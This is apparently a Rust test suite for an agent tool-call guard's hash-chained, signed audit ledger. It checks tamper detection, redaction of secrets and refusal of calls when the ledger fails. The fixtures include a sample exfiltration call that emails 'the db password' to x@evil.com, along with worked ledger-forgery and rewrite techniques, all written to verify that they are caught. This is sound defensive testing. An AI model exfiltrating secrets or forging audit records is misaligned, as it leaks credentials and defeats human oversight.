//! The ledger is written before a tool runs, records what matters without leaking secrets,
//! and every kind of tampering with it is found at the right line.

use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};

use agentwarrant::ledger::{
    self, Head, Record, RecordKind, SealedRecord, Sink, SinkLedger, GENESIS,
};
use agentwarrant::{
    Approval, ApprovalAnswer, ApprovalRequest, Error, FileLedger, Guard, Ledger, LedgerError,
    MemoryLedger, Outcome, Policy, ReasonCode, RunError, TaskError, ToolCall,
};
use serde_json::{json, Value};
use sha2::{Digest, Sha256};

use crate::fixtures::*;

/// Runs a real session on `ledger`: allowed, approved, refused and abandoned calls.
fn session(ledger: impl Ledger + 'static) {
    session_on(builder().ledger(ledger));
}

/// [`session`] on a guard of `builder` (its approver is bob).
fn session_on(builder: agentwarrant::GuardBuilder) {
    let guard = builder.approver(approve_as(BOB)).build().unwrap();
    let task = guard.begin(ops(), anything()).unwrap();
    task.run(
        ToolCall::new("read_logs", json!({"service": "api"})),
        |_| Ok::<_, String>(()),
    )
    .unwrap();
    task.run(
        ToolCall::new("read_secret", json!({"path": "db/main"})),
        |_| Ok::<_, String>(()),
    )
    .unwrap();
    let refusal = task
        .authorize(ToolCall::new(
            "send_email",
            json!({"to": "x@evil.com", "body": "the db password"}),
        ))
        .unwrap_err();
    assert!(refusal.has(&ReasonCode::Exfiltration));
    drop(
        task.authorize(ToolCall::new("read_logs", json!({"service": "db"})))
            .unwrap(),
    );
    task.end().unwrap();
}

/// A ledger file written by [`session`], and its lines (each with its newline).
fn written(dir: &Path) -> (std::path::PathBuf, Vec<String>) {
    let path = dir.join("audit.jsonl");
    session(FileLedger::open(&path).unwrap());
    let text = std::fs::read_to_string(&path).unwrap();
    let lines: Vec<String> = text.split_inclusive('\n').map(str::to_owned).collect();
    assert!(lines.len() >= 10, "{} records", lines.len());
    (path, lines)
}

fn broken_at(path: &Path) -> u64 {
    match ledger::verify(path) {
        Err(LedgerError::Broken { line, .. }) => line,
        other => panic!("expected a broken ledger, got {other:?}"),
    }
}

fn hash_of(line: &str) -> String {
    let value: Value = serde_json::from_str(line).unwrap();
    value["hash"].as_str().unwrap().to_owned()
}

#[test]
fn a_ledger_written_by_a_real_session_verifies() {
    let dir = tempfile::tempdir().unwrap();
    let (path, lines) = written(dir.path());

    let head = ledger::verify(&path).unwrap();

    assert_eq!(head.records, lines.len() as u64);
    assert_eq!(head.hash, hash_of(lines.last().unwrap()));
    let mut prev = GENESIS.to_owned();
    for (index, line) in lines.iter().enumerate() {
        let record: Record = serde_json::from_str(line).unwrap();
        assert_eq!(record.seq, index as u64 + 1);
        assert_eq!(record.prev, prev);
        prev = record.hash;
    }
    let first: Record = serde_json::from_str(&lines[0]).unwrap();
    let last: Record = serde_json::from_str(lines.last().unwrap()).unwrap();
    assert_eq!(first.kind, RecordKind::TaskBegun);
    assert_eq!(last.kind, RecordKind::TaskEnded);
}

/// Writes `lines` to `path` and returns the line `verify` says is broken.
fn tampered(path: &Path, lines: &[String]) -> u64 {
    std::fs::write(path, lines.concat()).unwrap();
    broken_at(path)
}

#[test]
fn editing_one_byte_of_a_record_is_found_at_its_line() {
    let dir = tempfile::tempdir().unwrap();
    let (path, lines) = written(dir.path());
    let target = 5;

    // Still valid JSON, different content.
    let mut edited = lines.clone();
    edited[target - 1] = lines[target - 1].replacen("keep the", "keep thE", 1);
    assert_ne!(edited[target - 1], lines[target - 1]);
    assert_eq!(tampered(&path, &edited), target as u64);

    // No longer JSON.
    let mut edited = lines.clone();
    edited[target - 1] = lines[target - 1].replacen('{', "[", 1);
    assert_eq!(tampered(&path, &edited), target as u64);

    // The hash itself.
    let mut edited = lines.clone();
    let hash = hash_of(&lines[target - 1]);
    let flipped = if hash.starts_with('0') { "1" } else { "0" };
    let new_hash = format!("{flipped}{}", &hash[1..]);
    edited[target - 1] = lines[target - 1].replace(&hash, &new_hash);
    assert_eq!(tampered(&path, &edited), target as u64);
}

#[test]
fn deleting_a_middle_record_is_found_where_it_was() {
    let dir = tempfile::tempdir().unwrap();
    let (path, mut lines) = written(dir.path());

    lines.remove(4);

    assert_eq!(tampered(&path, &lines), 5);
}

#[test]
fn swapping_two_records_is_found_at_the_first() {
    let dir = tempfile::tempdir().unwrap();
    let (path, mut lines) = written(dir.path());

    lines.swap(5, 6);

    assert_eq!(tampered(&path, &lines), 6);
}

#[test]
fn truncating_mid_line_is_found_at_the_cut_record() {
    let dir = tempfile::tempdir().unwrap();
    let (path, lines) = written(dir.path());

    let last = lines.len();
    let mut cut = lines.clone();
    cut[last - 1].truncate(lines[last - 1].len() / 2);
    assert_eq!(tampered(&path, &cut), last as u64);

    let mut cut = lines[..3].to_vec();
    cut[2].pop(); // only the newline
    assert_eq!(tampered(&path, &cut), 3);
}

#[test]
fn appending_a_forged_record_is_found_at_its_line() {
    let dir = tempfile::tempdir().unwrap();
    let (path, lines) = written(dir.path());
    let next = lines.len() as u64 + 1;

    // A replayed record.
    let mut replayed = lines.clone();
    replayed.push(lines[2].clone());
    assert_eq!(tampered(&path, &replayed), next);

    // A new record that continues the chain but whose hash was not recomputed.
    let mut forged: Value = serde_json::from_str(lines.last().unwrap()).unwrap();
    forged["seq"] = json!(next);
    forged["prev"] = json!(hash_of(lines.last().unwrap()));
    forged["kind"] = json!("call.decided");
    let mut appended = lines.clone();
    appended.push(format!("{forged}\n"));
    assert_eq!(tampered(&path, &appended), next);
}

#[test]
fn a_correctly_forged_append_is_caught_only_by_an_anchored_head() {
    let dir = tempfile::tempdir().unwrap();
    let (path, mut lines) = written(dir.path());
    let anchored = ledger::verify(&path).unwrap();

    let mut forged: Value = serde_json::from_str(lines.last().unwrap()).unwrap();
    forged["seq"] = json!(lines.len() + 1);
    forged["prev"] = json!(anchored.hash);
    forged.as_object_mut().unwrap().remove("hash");
    let hash = ledger::sha256_hex(&ledger::canonical_json(&forged));
    forged["hash"] = json!(hash);
    lines.push(format!(
        "{}\n",
        String::from_utf8(ledger::canonical_json(&forged)).unwrap()
    ));
    std::fs::write(&path, lines.concat()).unwrap();

    let head = ledger::verify(&path).unwrap();
    assert_eq!(head.records, anchored.records + 1);
    assert_ne!(head.hash, anchored.hash, "the anchor no longer matches");
}

#[test]
fn opening_a_tampered_ledger_fails_and_leaves_the_file_as_it_was() {
    let dir = tempfile::tempdir().unwrap();
    let (path, mut lines) = written(dir.path());
    lines.remove(3);
    std::fs::write(&path, lines.concat()).unwrap();
    let before = std::fs::read(&path).unwrap();

    let error = FileLedger::open(&path).unwrap_err();

    assert!(
        matches!(error, LedgerError::Broken { line: 4, .. }),
        "{error:?}"
    );
    assert_eq!(error.code(), "ledger_broken");
    assert_eq!(std::fs::read(&path).unwrap(), before);
}

#[test]
fn reopening_an_intact_ledger_continues_its_chain() {
    let dir = tempfile::tempdir().unwrap();
    let (path, lines) = written(dir.path());

    session(FileLedger::open(&path).unwrap());
    session(FileLedger::open(&path).unwrap());

    let head = ledger::verify(&path).unwrap();
    assert_eq!(head.records, 3 * lines.len() as u64);
    let text = std::fs::read_to_string(&path).unwrap();
    let resumed: Record = serde_json::from_str(text.lines().nth(lines.len()).unwrap()).unwrap();
    assert_eq!(resumed.seq, lines.len() as u64 + 1);
    assert_eq!(resumed.prev, hash_of(lines.last().unwrap()));
}

#[test]
fn an_unwritable_ledger_path_fails_at_open() {
    let dir = tempfile::tempdir().unwrap();

    for (path, want) in [
        (
            dir.path().join("missing/audit.jsonl"),
            std::io::ErrorKind::NotFound,
        ),
        (dir.path().to_owned(), std::io::ErrorKind::IsADirectory),
    ] {
        let error = FileLedger::open(&path).unwrap_err();
        assert_eq!(error.code(), "ledger_io");
        // The OS error's kind survives, so a caller can tell a missing directory from a
        // permission problem without parsing the message.
        let LedgerError::Io { kind, .. } = error else {
            panic!("{error:?}")
        };
        assert_eq!(kind, want, "{}", path.display());
    }
}

#[test]
fn a_ledger_that_cannot_write_stops_the_task_from_beginning() {
    let Ok(full) = FileLedger::open("/dev/full") else {
        return; // not on Linux
    };
    let guard = builder().ledger(full).build().unwrap();

    let error = guard.begin(ops(), anything()).unwrap_err();

    assert!(
        matches!(error, Error::Task(TaskError::Ledger { .. })),
        "{error:?}"
    );
    // The ledger's error is the source, printed once in the chain, not repeated.
    let text = error.to_string();
    let source = std::error::Error::source(&error).map(ToString::to_string);
    assert!(source.is_some_and(|s| !text.contains(&s)), "{text}");
    assert_eq!(error.code(), "ledger_error");
}

/// Storage that keeps sealed lines and fails every record of one kind, and optionally every
/// flush: a third party's sink, wrapped in the library's sealing ledger.
#[derive(Default)]
struct Failing {
    lines: Mutex<Vec<String>>,
    fails: Option<RecordKind>,
    flush_fails: bool,
}

impl Failing {
    fn on(kind: RecordKind) -> Self {
        Self {
            fails: Some(kind),
            ..Self::default()
        }
    }
}

impl Sink for Failing {
    fn head(&self) -> Result<Head, LedgerError> {
        Ok(Head {
            records: 0,
            hash: GENESIS.to_owned(),
        })
    }

    fn store(&self, sealed: SealedRecord<'_>) -> Result<(), LedgerError> {
        if self.fails == Some(sealed.record.kind) {
            return Err(LedgerError::io(
                "audit",
                &std::io::Error::from(std::io::ErrorKind::StorageFull),
            ));
        }
        self.lines.lock().unwrap().push(sealed.line.to_owned());
        Ok(())
    }

    fn flush(&self) -> Result<(), LedgerError> {
        if self.flush_fails {
            return Err(LedgerError::other("audit", "fsync failed"));
        }
        Ok(())
    }
}

/// Runs `call` on a guard over `ledger` and returns the refusal; the tool must not run.
fn refused_by(ledger: Failing, policy: Policy, call: ToolCall) -> agentwarrant::Refusal {
    let guard = builder()
        .ledger(SinkLedger::open(ledger).unwrap())
        .policy(policy)
        .approver(approve_as(BOB))
        .build()
        .unwrap();
    let task = guard.begin(ops(), anything()).unwrap();
    let ran = AtomicBool::new(false);
    let result = task.run(call, |_| {
        ran.store(true, Ordering::SeqCst);
        Ok::<_, String>(())
    });
    assert!(!ran.load(Ordering::SeqCst), "the tool ran without evidence");
    match result {
        Err(RunError::Refused(refusal)) => refusal,
        other => panic!("expected a refusal, got {other:?}"),
    }
}

#[test]
fn a_ledger_that_fails_at_write_time_refuses_the_call_before_the_tool_runs() {
    let logs = || ToolCall::new("read_logs", json!({"service": "api"}));
    let secret = || ToolCall::new("read_secret", json!({"path": "db/main"}));
    for (kind, call) in [
        (RecordKind::CallDecided, logs()),
        (RecordKind::CallDecided, secret()),
        (RecordKind::ApprovalRequested, secret()),
        (RecordKind::ApprovalAnswered, secret()),
    ] {
        let refusal = refused_by(Failing::on(kind), Policy::default_bundle(), call);
        assert!(refusal.has(&ReasonCode::LedgerError), "{refusal:?}");
    }
}

#[test]
fn a_ledger_sync_obligation_refuses_the_call_when_the_sync_fails() {
    let policy = Policy::default_bundle().with_module(
        "sync.rego",
        "package agentwarrant\n\nobligations := {\"ledger_sync\": true}\n",
    );
    let ledger = Failing {
        fails: None,
        flush_fails: true,
        ..Failing::default()
    };

    let refusal = refused_by(
        ledger,
        policy,
        ToolCall::new("read_logs", json!({"service": "api"})),
    );

    assert_eq!(refusal.codes(), ["ledger_error"]);
}

#[test]
fn sensitive_args_are_redacted_while_the_digest_covers_the_originals() {
    let ledger = Arc::new(MemoryLedger::new());
    let requests = Requests::default();
    let seen = requests.clone();
    let guard = builder()
        .env("prod")
        .ledger(ledger.clone())
        .approver(move |request: &ApprovalRequest| {
            seen.push(request);
            Ok(ApprovalAnswer::Approved(vec![Approval::of(request, BOB)]))
        })
        .build()
        .unwrap();
    let task = guard.begin(ops(), anything()).unwrap();
    let args = json!({"to": "bob@acme.com", "body": "the password is hunter2", "cc": []});

    let warrant = task
        .authorize(ToolCall::new("send_email", args.clone()))
        .unwrap();
    let call = warrant.call_id();
    warrant.complete(Outcome::ok()).unwrap();

    // Canonical JSON: sorted keys, no whitespace.
    let canonical = r#"{"body":"the password is hunter2","cc":[],"to":"bob@acme.com"}"#;
    let digest = format!("{:x}", Sha256::digest(canonical.as_bytes()));
    let redacted = json!({"to": "bob@acme.com", "body": "[redacted]", "cc": []});
    let mut with_args = 0;
    for record in records_of(&ledger, call) {
        if let Some(recorded) = &record.args {
            assert_eq!(recorded, &redacted, "{}", record.kind.as_str());
            assert_eq!(record.args_digest.as_deref(), Some(digest.as_str()));
            with_args += 1;
        }
    }
    assert_eq!(with_args, 3, "requested, answered, decided");
    // The approver reads what it approves; only the ledger redacts.
    assert_eq!(requests.all()[0].args, args);
    assert!(!ledger.to_jsonl().contains("hunter2"));
}

#[test]
fn a_memory_ledger_verifies_like_a_file() {
    let ledger = Arc::new(MemoryLedger::new());
    session(ledger.clone());
    let jsonl = ledger.to_jsonl();

    let head = ledger::verify_str(&jsonl).unwrap();

    let records = ledger.records();
    assert_eq!(head.records, records.len() as u64);
    assert_eq!(head.hash, records.last().unwrap().hash);
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("copy.jsonl");
    std::fs::write(&path, &jsonl).unwrap();
    assert_eq!(ledger::verify(&path).unwrap(), head);
    // A file ledger continues where the memory ledger stopped.
    session(FileLedger::open(&path).unwrap());
    assert!(ledger::verify(&path).unwrap().records > head.records);
}

#[test]
fn a_file_that_is_not_utf8_is_broken_at_the_line_of_the_bad_byte() {
    let dir = tempfile::tempdir().unwrap();
    let (path, lines) = written(dir.path());
    let mut bytes = lines[..2].concat().into_bytes();
    bytes.extend_from_slice(b"{\"seq\":3,\xff}\n");

    std::fs::write(&path, bytes).unwrap();

    assert_eq!(broken_at(&path), 3);
}

#[test]
fn a_guard_logs_to_one_ledger_across_tasks_and_threads() {
    let ledger = Arc::new(MemoryLedger::new());
    let guard: Guard = builder().ledger(ledger.clone()).build().unwrap();
    std::thread::scope(|s| {
        for n in 0..4 {
            let guard = &guard;
            s.spawn(move || {
                let task = guard.begin(ops(), anything()).unwrap();
                for _ in 0..10 {
                    task.run(
                        ToolCall::new("read_logs", json!({"service": format!("svc{n}")})),
                        |_| Ok::<_, String>(()),
                    )
                    .unwrap();
                }
            });
        }
    });

    let head = ledger::verify_str(&ledger.to_jsonl()).unwrap();
    assert_eq!(head.records, 4 * (2 + 20 + 2));
}

/// Regression: `verify` hashed each record as re-serialized from its parsed value, so an edit
/// that kept the value (the case of a `\u001f` escape or of an exponent, a space, a repeated
/// key) went unnoticed.
#[test]
fn a_record_must_be_stored_exactly_as_it_was_hashed() {
    let ledger = Arc::new(MemoryLedger::new());
    let guard = builder().ledger(ledger.clone()).build().unwrap();
    let task = guard.begin(ops(), anything()).unwrap();
    task.authorize(ToolCall::new(
        "read_logs",
        json!({"service": "api", "grep": "a\u{1f}b", "ratio": 1e300}),
    ))
    .unwrap()
    .complete(Outcome::ok())
    .unwrap();
    let jsonl = ledger.to_jsonl();
    ledger::verify_str(&jsonl).unwrap();

    for (from, to) in [
        ("\\u001f", "\\u001F"),
        ("1e+300", "1E+300"),
        ("1e+300", "1e300"),
        ("{\"approver\"", "{ \"approver\""),
        ("{\"approver\"", "{\"seq\":99,\"approver\""),
    ] {
        let edited = jsonl.replacen(from, to, 1);
        assert_ne!(edited, jsonl, "`{from}` is in the ledger");
        assert!(
            ledger::verify_str(&edited).is_err(),
            "`{from}` → `{to}` went unnoticed"
        );
    }
}

/// Regression: `verify` re-parsed each record and serde_json does not read every float back
/// exactly, so an honest ledger whose args held such a float did not verify, and its file
/// could not be reopened.
#[test]
fn a_ledger_with_any_float_in_its_args_verifies_and_reopens() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("audit.jsonl");
    let guard = builder()
        .ledger(FileLedger::open(&path).unwrap())
        .build()
        .unwrap();
    let task = guard.begin(ops(), anything()).unwrap();
    for ratio in [
        3.7498250033053645e58,
        0.1 + 0.2,
        f64::MAX,
        f64::MIN_POSITIVE,
        -0.0,
    ] {
        task.run(
            ToolCall::new("read_logs", json!({"service": "api", "ratio": ratio})),
            |_| Ok::<_, String>(()),
        )
        .unwrap();
    }
    task.end().unwrap();
    // The task holds the guard, and so the ledger's writer lock, until it is dropped.
    drop((task, guard));

    let head = ledger::verify(&path).unwrap();
    assert_eq!(head.records, 2 + 5 * 2 + 2);
    FileLedger::open(&path).unwrap();
}

#[test]
fn a_second_writer_on_the_same_file_is_refused_until_the_first_is_dropped() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("audit.jsonl");
    let first = agentwarrant::FileLedger::open(&path).unwrap();
    let second = agentwarrant::FileLedger::open(&path).unwrap_err();
    assert!(second.to_string().contains("another writer"), "{second}");
    assert_eq!(second.code(), "ledger_locked");
    drop(first);
    assert!(agentwarrant::FileLedger::open(&path).is_ok());
}

#[test]
fn a_sink_gets_records_the_library_sealed_and_they_verify_even_after_a_refused_store() {
    let sink = Failing::on(RecordKind::ApprovalRequested);
    let ledger = Arc::new(SinkLedger::open(sink).unwrap());
    let guard = builder()
        .ledger(ledger.clone())
        .approver(approve_as(BOB))
        .build()
        .unwrap();
    let task = guard.begin(ops(), anything()).unwrap();
    let secret = ToolCall::new("read_secret", json!({"path": "db/main"}));
    let refusal = task.authorize(secret).unwrap_err();
    assert!(refusal.has(&ReasonCode::LedgerError), "{refusal:?}");
    let logs = ToolCall::new("read_logs", json!({"service": "api"}));
    task.run(logs, |_| Ok::<_, String>(())).unwrap();
    task.end().unwrap();

    let lines = ledger.sink().lines.lock().unwrap().clone();
    // The refused `approval.requested` left no gap: the chain is whole.
    let jsonl: String = lines.iter().map(|l| format!("{l}\n")).collect();
    let head = ledger::verify_str(&jsonl).unwrap();
    assert_eq!(head.records, lines.len() as u64);
    assert!(lines.iter().all(|l| l.contains("\"schema\":1,")));
    assert!(jsonl.contains("\"call.completed\""));
}

#[test]
fn a_sink_ledger_continues_the_chain_its_storage_holds() {
    struct Holding(Mutex<Vec<String>>);
    impl Sink for Holding {
        fn head(&self) -> Result<Head, LedgerError> {
            let lines = self.0.lock().unwrap();
            let jsonl: String = lines.iter().map(|l| format!("{l}\n")).collect();
            Ok(ledger::verify_str(&jsonl).unwrap())
        }
        fn store(&self, sealed: SealedRecord<'_>) -> Result<(), LedgerError> {
            self.0.lock().unwrap().push(sealed.line.to_owned());
            Ok(())
        }
    }
    let first = Arc::new(SinkLedger::open(Holding(Mutex::new(Vec::new()))).unwrap());
    session(first.clone());
    let stored = std::mem::take(&mut *first.sink().0.lock().unwrap());
    let count = stored.len();
    let second = Arc::new(SinkLedger::open(Holding(Mutex::new(stored))).unwrap());
    session(second.clone());
    let lines = second.sink().0.lock().unwrap().clone();
    let jsonl: String = lines.iter().map(|l| format!("{l}\n")).collect();
    assert!(lines.len() > count);
    assert_eq!(
        ledger::verify_str(&jsonl).unwrap().records,
        lines.len() as u64
    );
}

/// A session written to a ledger with checkpoints every 4 records, closed; its key and lines.
fn signed(dir: &Path) -> (std::path::PathBuf, ledger::CheckpointKey, Vec<String>) {
    let path = dir.join("signed.jsonl");
    let key = ledger::CheckpointKey::generate();
    session(
        FileLedger::options()
            .checkpoints(key.clone(), 4)
            .open(&path)
            .unwrap(),
    );
    let text = std::fs::read_to_string(&path).unwrap();
    let lines = text.split_inclusive('\n').map(str::to_owned).collect();
    (path, key, lines)
}

/// `lines` rewritten by someone without the key: `edit` changes records, then every `prev`
/// and `hash` is recomputed so the hash chain alone verifies.
fn rewritten(lines: &[String], edit: impl Fn(&mut Value)) -> String {
    let mut prev = GENESIS.to_owned();
    let mut out = String::new();
    for line in lines {
        let mut record: Value = serde_json::from_str(line).unwrap();
        edit(&mut record);
        record["prev"] = json!(prev);
        if record["kind"] == json!("ledger.checkpoint") {
            // A careful forger also points each checkpoint at the new head; only the
            // signature cannot follow.
            record["detail"]["signed_hash"] = json!(prev);
        }
        record.as_object_mut().unwrap().remove("hash");
        let hash = ledger::sha256_hex(&ledger::canonical_json(&record));
        record["hash"] = json!(hash);
        out.push_str(&String::from_utf8(ledger::canonical_json(&record)).unwrap());
        out.push('\n');
        prev = hash;
    }
    out
}

#[test]
fn a_signed_ledger_verifies_under_its_key_and_ends_on_a_closing_checkpoint() {
    let dir = tempfile::tempdir().unwrap();
    let (path, key, lines) = signed(dir.path());

    let report = ledger::verify_signed(&path, &key.verifying_key()).unwrap();

    assert!(report.closed, "{report:?}");
    assert_eq!(report.unsigned_tail, 0);
    assert!(report.checkpoints >= 3, "{report:?}");
    assert_eq!(report.head.records, lines.len() as u64);
    // Every fifth record is a checkpoint, and the last one closes the ledger.
    assert!(lines[4].contains("\"kind\":\"ledger.checkpoint\""));
    assert!(lines.last().unwrap().contains("\"closing\":true"));
    // Another key's checkpoints are not these.
    let other = ledger::CheckpointKey::generate().verifying_key();
    let error = ledger::verify_signed(&path, &other).unwrap_err();
    assert!(error.to_string().contains("signed by key"), "{error}");
}

#[test]
fn a_ledger_rewritten_with_every_hash_recomputed_fails_under_its_key() {
    let dir = tempfile::tempdir().unwrap();
    let (path, key, lines) = signed(dir.path());
    for edit in [
        // A refusal turned into an allow.
        |record: &mut Value| {
            if record["decision"]["effect"] == json!("deny") {
                record["decision"]["effect"] = json!("allow");
            }
        },
        // The approver replaced.
        |record: &mut Value| {
            if record["approver"].is_array() {
                record["approver"] = json!(["mallory@acme.com"]);
            }
        },
    ] {
        std::fs::write(&path, rewritten(&lines, edit)).unwrap();

        // The hash chain alone is fooled; the signatures are not.
        assert!(ledger::verify(&path).is_ok());
        let error = ledger::verify_signed(&path, &key.verifying_key()).unwrap_err();
        assert!(error.to_string().contains("rewritten"), "{error}");
    }
}

#[test]
fn a_truncated_signed_ledger_shows_it_was_not_closed() {
    let dir = tempfile::tempdir().unwrap();
    let (path, key, lines) = signed(dir.path());
    for keep in [lines.len() - 1, lines.len() - 2, 5, 3] {
        std::fs::write(&path, lines[..keep].concat()).unwrap();

        let report = ledger::verify_signed(&path, &key.verifying_key()).unwrap();

        assert!(!report.closed, "kept {keep}: {report:?}");
    }
}

#[test]
fn a_torn_last_line_is_moved_aside_and_recorded_on_open() {
    let dir = tempfile::tempdir().unwrap();
    let (path, lines) = written(dir.path());
    let torn = &lines.last().unwrap()[..40];
    std::fs::write(
        &path,
        format!("{}{torn}", lines[..lines.len() - 1].concat()),
    )
    .unwrap();
    assert!(ledger::verify(&path).is_err());

    let ledger = FileLedger::open(&path).unwrap();
    drop(ledger);

    let text = std::fs::read_to_string(&path).unwrap();
    let head = ledger::verify_str(&text).unwrap();
    assert_eq!(head.records, lines.len() as u64);
    let last: Record = serde_json::from_str(text.lines().last().unwrap()).unwrap();
    assert_eq!(last.kind.as_str(), "ledger.recovered");
    let moved_to = last.detail.as_ref().unwrap()["moved_to"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(std::fs::read_to_string(moved_to).unwrap(), torn);
}

#[cfg(unix)]
#[test]
fn a_ledger_file_replaced_under_a_running_writer_is_noticed() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("audit.jsonl");
    let guard = builder()
        .ledger(FileLedger::open(&path).unwrap())
        .build()
        .unwrap();
    let task = guard.begin(ops(), anything()).unwrap();
    std::fs::remove_file(&path).unwrap();
    std::fs::write(&path, "").unwrap();
    std::thread::sleep(std::time::Duration::from_millis(150));

    let refusal = task
        .authorize(ToolCall::new("read_logs", json!({"service": "api"})))
        .unwrap_err();

    assert!(refusal.has(&ReasonCode::LedgerError), "{refusal:?}");
    let detail = format!("{:?}", refusal.reasons);
    assert!(detail.contains("deleted or replaced"), "{detail}");
}

#[test]
fn verification_streams_a_record_with_a_large_arg() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("big.jsonl");
    let guard = builder()
        .ledger(FileLedger::open(&path).unwrap())
        .limits(agentwarrant::Limits {
            max_args_bytes: 16 << 20,
            ..agentwarrant::Limits::default()
        })
        .build()
        .unwrap();
    let task = guard.begin(ops(), anything()).unwrap();
    let big = "x".repeat(8 << 20);
    task.run(
        ToolCall::new("read_logs", json!({"service": "api", "filter": big})),
        |_| Ok::<_, String>(()),
    )
    .unwrap();
    task.end().unwrap();
    drop(task);
    drop(guard);

    let head = ledger::verify(&path).unwrap();
    assert!(head.records >= 5);
}

#[test]
fn records_read_back_as_typed_values_filtered_by_task_kind_tool_and_time() {
    let dir = tempfile::tempdir().unwrap();
    let (path, lines) = written(dir.path());
    let all: Vec<Record> = ledger::read(&path, &ledger::RecordFilter::new())
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    assert_eq!(all.len(), lines.len());

    let decided = ledger::RecordFilter::new().kind(RecordKind::CallDecided);
    let decisions: Vec<Record> = ledger::read(&path, &decided)
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    assert!(decisions.iter().all(|r| r.kind == RecordKind::CallDecided));
    assert_eq!(
        decisions.len(),
        all.iter()
            .filter(|r| r.kind == RecordKind::CallDecided)
            .count()
    );

    let sends = decided.clone().tool("send_email");
    let refused: Vec<Record> = ledger::read(&path, &sends)
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(refused.len(), 1);
    assert_eq!(refused[0].outcome.as_ref().unwrap().status, "denied");

    let other_task = ledger::RecordFilter::new().task("no-such-task");
    assert_eq!(ledger::read(&path, &other_task).unwrap().count(), 0);
    let future = ledger::RecordFilter::new()
        .since(time::OffsetDateTime::now_utc() + time::Duration::hours(1));
    assert_eq!(ledger::read(&path, &future).unwrap().count(), 0);

    // A memory ledger filters the same way.
    let memory = Arc::new(MemoryLedger::new());
    session(memory.clone());
    assert_eq!(
        memory.records_where(&sends).len(),
        1,
        "{:?}",
        memory.records_where(&sends)
    );
}

/// The records of a [`session`] on a memory ledger, its guard built by `configure`.
fn session_records(
    configure: impl FnOnce(agentwarrant::GuardBuilder) -> agentwarrant::GuardBuilder,
) -> Vec<Record> {
    let ledger = Arc::new(MemoryLedger::new());
    session_on(configure(builder().ledger(ledger.clone())));
    ledger.records()
}

#[test]
fn a_decision_keeps_the_policy_input_it_was_made_on_with_sensitive_args_redacted() {
    let records = session_records(|b| b);
    let decided = |tool: &str| {
        records
            .iter()
            .find(|r| r.kind == RecordKind::CallDecided && r.tool.as_deref() == Some(tool))
            .unwrap()
    };
    let input = |r: &Record| {
        r.decision
            .as_ref()
            .unwrap()
            .input
            .as_ref()
            .unwrap()
            .to_json()
    };
    let approved = input(decided("read_secret"));
    assert_eq!(approved["version"], "agentwarrant/v1");
    assert_eq!(approved["call"]["tool"], "read_secret");
    assert_eq!(approved["call"]["args"], json!({"path": "db/main"}));
    assert_eq!(approved["identity"]["id"], ops().id());
    let refused = input(decided("send_email"));
    assert_eq!(refused["chain"]["labels"], json!(["secret"]));
    // The input's args are the record's: the sensitive body is not kept, here either.
    assert_eq!(
        refused["call"]["args"],
        decided("send_email").args.clone().unwrap()
    );
    assert_eq!(refused["call"]["args"]["body"], "[redacted]");
    assert!(!serde_json::to_string(&records)
        .unwrap()
        .contains("the db password"));

    // Replayed under the bundle that decided, nothing changes.
    let engine = Policy::default_bundle().compile().unwrap();
    let same = agentwarrant::replay::replay(records.clone(), &engine);
    assert_eq!(
        (same.decisions, same.replayed, same.changes.len()),
        (4, 4, 0)
    );
}

#[test]
fn a_guard_that_records_no_inputs_leaves_replay_nothing_to_replay() {
    let records = session_records(|b| b.record_policy_inputs(false));
    let decided = records.iter().filter(|r| r.kind == RecordKind::CallDecided);
    assert_eq!(decided.clone().count(), 4);
    assert!(decided
        .clone()
        .all(|r| r.decision.as_ref().unwrap().input.is_none()));
    let engine = Policy::default_bundle().compile().unwrap();
    let report = agentwarrant::replay::replay(records, &engine);
    assert_eq!(
        (report.decisions, report.replayed, report.without_input),
        (4, 0, 4)
    );
    assert!(!report.gate_failed());
}
